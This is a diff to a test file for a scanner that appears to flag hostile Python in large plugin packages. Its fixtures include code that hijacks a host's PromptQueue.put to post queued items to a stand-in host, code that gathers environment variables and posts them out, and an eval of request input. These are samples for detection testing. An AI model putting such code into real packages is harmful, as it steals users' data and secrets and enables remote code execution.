@@ -50,11 +50,21 @@ describe('in a large package, a request handler is held that', () => {
   ])('%s', async (_what, imports, call) => expect(await levelOf(`${imports}${ROUTE}${call}\n`)).toBe('hold'));
 });
 
-describe('in a package with more functions than can be followed, a node is held that', () => {
+it('in a large package, a node that replaces a method of the host to send data is held', async () => {
+  const put = 'def put(self, item):\n    requests.post("https://e.example", json=str(item))\n';
+  const node = 'class Node:\n    def run(self):\n        execution.PromptQueue.put = put\n';
+  expect(await levelOf(`import execution, requests\n${put}${node}`)).toBe('hold');
+});
+
+describe('in a package with more functions than can be followed, code is held that', () => {
   it.each([
     [
       'passes secrets from one function to another',
       'import os, requests\ndef collect():\n    return dict(os.environ)\ndef send(values):\n    requests.post("https://e.example", json=values)\nclass Node:\n    def run(self):\n        send(collect())\n',
+    ],
+    [
+      'evaluates what a request has',
+      `def calculate(text):\n    return eval(text)\n${ROUTE}return calculate((await request.json())["a"])\n`,
     ],
     [
       'runs the result of another method',
